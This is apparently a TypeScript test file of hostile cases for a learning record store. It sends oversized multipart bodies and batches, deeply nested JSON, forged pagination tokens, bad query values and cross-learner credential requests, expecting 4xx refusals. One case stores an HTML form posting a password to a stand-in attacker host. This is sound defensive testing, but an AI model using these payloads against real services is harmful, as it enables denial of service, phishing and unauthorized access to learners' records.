import { type Case, hostileCase } from '../harness.js'
import { type Answer, json, type Sent, send } from '../http.js'
import { SESSION_ID_EXTENSION, statement, XAPI, XAPI_VERSION } from '../launch.js'
import { MIB, XAPI_MAX_BATCH } from '../settings.js'
import type { World } from '../world.js'
import { cmi5Pair } from './sessions.js'

// The LRS under abuse (DECISIONS §13.7): multipart bodies of endless empty parts, huge batches, deep
// JSON, forged `more` tokens, bad query parameters, HTML stored as a document, and a learner's session
// credential reaching for another learner's records. Every answer is xAPI's 4xx.

const group = 'lrs'
const AGENT = { objectType: 'Agent', mbox: 'mailto:hostile@example.test' }
const ACTIVITY = 'https://hostile.example.test/activities/drill'
const BOUNDARY = 'hostile'

const lrs = (
  world: World,
  path: string,
  init: { method?: string; headers?: Record<string, string>; body?: Sent['body']; signal?: AbortSignal; auth?: string } = {},
) =>
  send(world.service.baseUrl + XAPI + path, {
    method: init.method ?? 'GET',
    headers: { authorization: init.auth ?? world.lrsAuth, ...XAPI_VERSION, ...init.headers },
    body: init.body,
    signal: init.signal,
  })

const expectStatus = (answer: Answer, ...wanted: number[]) =>
  wanted.includes(answer.status) ? null : `answered ${answer.status} ${answer.text.slice(0, 200)} (expected ${wanted.join(' or ')})`

/** multipart/mixed of `bytes` bytes: the statement, then empty parts to the end. */
function emptyParts(bytes: number): Buffer {
  const head = Buffer.from(
    `--${BOUNDARY}\r\nContent-Type: application/json\r\n\r\n${JSON.stringify(statement(AGENT, crypto.randomUUID()))}`,
  )
  const part = `\r\n--${BOUNDARY}\r\n\r\n`
  const tail = Buffer.from(`\r\n--${BOUNDARY}--\r\n`)
  const parts = Math.floor((bytes - head.length - tail.length) / part.length)
  return Buffer.concat([head, Buffer.alloc(parts * part.length, part), tail])
}

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`

/** A statement whose extension value is nested `depth` deep, as JSON text (no serializer recurses through it). */
const deepStatement = (depth: number) =>
  JSON.stringify(statement(AGENT, crypto.randomUUID(), { result: { extensions: { 'https://hostile.example.test/x': '\u0001' } } })).replace(
    '"\\u0001"',
    nested(depth),
  )

const stateQuery = (stateId: string) =>
  `activityId=${encodeURIComponent(ACTIVITY)}&agent=${encodeURIComponent(JSON.stringify(AGENT))}&stateId=${stateId}`

const multipartCase = (name: string, bytes: number) =>
  hostileCase({
    group,
    name,
    prepare: async () => emptyParts(bytes),
    // The service answers 400 as soon as a limit is crossed, then reads the rest: the client gets its answer, not a reset.
    run: async (world, body: Buffer, signal) =>
      expectStatus(
        await lrs(world, '/statements', {
          method: 'POST',
          headers: { 'content-type': `multipart/mixed; boundary=${BOUNDARY}`, 'content-length': String(body.length) },
          body,
          signal,
        }),
        400,
      ),
  })

/** Each query in turn; the problems of those whose answer `check` refuses. */
const queryCase = (name: string, queries: string[], check: (answer: Answer) => string | null = (a) => expectStatus(a, 400)) =>
  hostileCase({
    group,
    name,
    run: async (world, _: unknown, signal) => {
      const wrong: string[] = []
      for (const query of queries) {
        const problem = check(await lrs(world, `/statements?${query}`, { signal }))
        if (problem) wrong.push(`${query}: ${problem}`)
      }
      return wrong.length ? wrong.join('; ') : null
    },
  })

const BAD_TIMES = [
  'yesterday',
  '2026-02-30T00:00:00Z',
  '2026-01-01T25:00:00Z',
  '0000-00-00T00:00:00Z',
  '99999-01-01T00:00:00Z',
  '2026-01-01T00:00:00+99:00',
]
const BAD_UUIDS = [
  'not-a-uuid',
  '0190a000-0000-7000-8000-00000000000g',
  '0190a000-0000-7000-8000-0000000000001',
  '{0190a000-0000-7000-8000-000000000001}',
]
const each = (name: string, values: string[]) => values.map((value) => `${name}=${encodeURIComponent(value)}`)

/** The `more` URL of a real first page of one statement. */
async function realMore(world: World): Promise<string> {
  const batch = [0, 1, 2].map(() => statement(AGENT, crypto.randomUUID()))
  const stored = await lrs(world, '/statements', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(batch),
  })
  if (stored.status !== 200) throw new Error(`storing statements answered ${stored.status}`)
  const page = json(await lrs(world, '/statements?limit=1'))
  if (!page?.more) throw new Error('the first page of one statement has no `more`')
  return page.more
}

/** One character of the token changed (to another base64url character), the rest kept. */
function altered(moreUrl: string): string {
  const url = new URL(moreUrl, 'http://lrs.invalid')
  const token = url.searchParams.get('more') ?? ''
  const at = Math.floor(token.length / 2)
  url.searchParams.set('more', token.slice(0, at) + (token[at] === 'A' ? 'B' : 'A') + token.slice(at + 1))
  return `${url.pathname.slice(XAPI.length)}${url.search}`
}

const forbidden = (answer: Answer) => expectStatus(answer, 403)

export const lrsCases: Case[] = [
  multipartCase('multipart/mixed: 32 MiB of empty parts', 32 * MIB - 1024),
  multipartCase('multipart/mixed: 8 MiB of empty parts', 8 * MIB),
  hostileCase({
    group,
    name: `a batch of 50,000 statements (> ${XAPI_MAX_BATCH}): 413`,
    prepare: async () => JSON.stringify(Array.from({ length: 50_000 }, () => statement(AGENT, crypto.randomUUID()))),
    run: async (world, body: string, signal) =>
      expectStatus(await lrs(world, '/statements', { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal }), 413),
  }),
  hostileCase({
    group,
    name: "JSON nested 5,000 deep in a statement's extensions: 400",
    run: async (world, _: unknown, signal) =>
      expectStatus(
        await lrs(world, '/statements', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: deepStatement(5000),
          signal,
        }),
        400,
      ),
  }),
  hostileCase({
    group,
    name: 'JSON nested 5,000 deep merged into a state document: 400',
    prepare: async (world) => {
      const first = await lrs(world, `/activities/state?${stateQuery('merged')}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"a":1}',
      })
      if (first.status !== 204) throw new Error(`storing the document answered ${first.status}`)
    },
    run: async (world, _: unknown, signal) =>
      expectStatus(
        await lrs(world, `/activities/state?${stateQuery('merged')}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: `{"b":${nested(5000)}}`,
          signal,
        }),
        400,
      ),
  }),
  queryCase('forged `more` (bnVsbA): 400', ['more=bnVsbA']),
  hostileCase({
    group,
    name: 'an altered real `more`: 400',
    prepare: realMore,
    run: async (world, more: string, signal) => expectStatus(await lrs(world, altered(more), { signal }), 400),
  }),
  queryCase('bad `since`: 400', each('since', BAD_TIMES)),
  queryCase('bad `until`: 400', each('until', BAD_TIMES)),
  queryCase('bad `registration`: 400', each('registration', BAD_UUIDS)),
  queryCase('`limit=1e9`: 400, or capped at 500', ['limit=1e9', 'limit=1000000000'], (answer) => {
    if (answer.status === 400) return null
    const count = json(answer)?.statements?.length
    return answer.status === 200 && count <= 500 ? null : `answered ${answer.status} with ${count ?? 'no'} statements`
  }),
  hostileCase({
    group,
    name: 'a text/html state document through the alternate request syntax: an attachment, sandboxed',
    prepare: async (world) => {
      const page = '<!doctype html><form action="https://attacker.invalid/"><input name="password" type="password"></form>'
      const put = await lrs(world, `/activities/state?${stateQuery('page')}`, {
        method: 'PUT',
        headers: { 'content-type': 'text/html' },
        body: page,
      })
      if (put.status !== 204) throw new Error(`storing the document answered ${put.status}`)
    },
    run: async (world, _: unknown, signal) => {
      // As a cross-site form posts it: no headers of its own, everything in the form.
      const form = `${stateQuery('page')}&Authorization=${encodeURIComponent(world.lrsAuth)}&X-Experience-API-Version=1.0.3`
      const answer = await send(`${world.service.baseUrl}${XAPI}/activities/state?method=GET`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: form,
        signal,
      })
      const { status, headers } = answer
      const problems = [
        status !== 200 && `answered ${status}`,
        !/^attachment\b/i.test(String(headers['content-disposition'] ?? '')) &&
          `Content-Disposition ${headers['content-disposition'] ?? 'absent'}`,
        !/\bsandbox\b/.test(String(headers['content-security-policy'] ?? '')) && `CSP ${headers['content-security-policy'] ?? 'absent'}`,
        headers['x-content-type-options'] !== 'nosniff' && 'no X-Content-Type-Options: nosniff',
      ].filter(Boolean)
      return problems.length ? problems.join('; ') : null
    },
  }),
  hostileCase({
    group,
    name: "a cmi5 session credential reads another learner's statement: 403",
    prepare: cmi5Pair,
    run: async (world, pair, signal) =>
      forbidden(await lrs(world, `/statements?statementId=${pair.otherStatementId}`, { auth: pair.session.auth, signal })),
  }),
  hostileCase({
    group,
    name: "a cmi5 session credential voids another learner's statement: 403",
    prepare: cmi5Pair,
    run: async (world, { session, otherStatementId }, signal) => {
      const voiding = statement(session.actor, session.registration, {
        verb: { id: 'http://adlnet.gov/expapi/verbs/voided', display: { 'en-US': 'voided' } },
        object: { objectType: 'StatementRef', id: otherStatementId },
        context: { registration: session.registration, extensions: { [SESSION_ID_EXTENSION]: session.sessionId } },
      })
      const body = JSON.stringify(voiding)
      return forbidden(
        await lrs(world, '/statements', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body,
          auth: session.auth,
          signal,
        }),
      )
    },
  }),
  hostileCase({
    group,
    name: 'a cmi5 session credential asks /agents for another learner: 403',
    prepare: cmi5Pair,
    run: async (world, { session, otherActor }, signal) =>
      forbidden(await lrs(world, `/agents?agent=${encodeURIComponent(JSON.stringify(otherActor))}`, { auth: session.auth, signal })),
  }),
]
